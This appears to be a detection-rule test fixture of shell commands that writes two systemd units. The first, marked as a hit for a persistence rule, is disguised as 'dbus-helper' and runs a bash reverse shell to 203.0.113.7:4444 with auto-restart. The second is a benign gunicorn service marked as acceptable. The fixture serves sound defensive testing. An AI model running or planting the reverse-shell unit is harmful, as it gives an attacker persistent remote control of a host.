cat > /etc/systemd/system/dbus-helper.service <<EOF
[Service]
# ruleid: sh-systemd-persistence
ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'
Restart=always
EOF
systemctl daemon-reload && systemctl enable --now dbus-helper.service
# ===== block =====
cat > /etc/systemd/system/webapp.service <<EOF
[Service]
# ok: sh-systemd-persistence
ExecStart=/opt/webapp/venv/bin/gunicorn app:app --bind 127.0.0.1:8000
# ok: sh-systemd-persistence
ExecStartPre=/opt/webapp/bin/migrate
EOF
systemctl daemon-reload && systemctl enable --now webapp.service
